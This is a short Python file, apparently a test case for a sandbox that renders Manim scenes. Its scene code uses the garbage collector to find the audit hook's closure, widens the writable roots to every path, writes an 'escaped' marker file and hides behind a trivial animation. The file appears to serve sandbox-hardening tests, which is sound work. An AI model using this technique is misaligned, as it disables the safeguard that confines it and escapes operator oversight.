# ruff: noqa
# class: hook-disable
# tries: find the audit hook's closure with gc and widen its writable roots to everything, then write a marker.
from manim import *
import gc


class Escape(Scene):
    def construct(self):
        for candidate in gc.get_objects():
            if callable(candidate) and getattr(candidate, "__name__", "") == "hook":
                for cell in candidate.__closure__ or ():
                    if isinstance(cell.cell_contents, tuple):
                        cell.cell_contents = ("",)  # every absolute path starts with "" + "/"
        with open("__MARKER_DIR__/hook_gc_closure", "w") as handle:
            handle.write("escaped")
        self.play(FadeIn(Dot()), run_time=0.2)
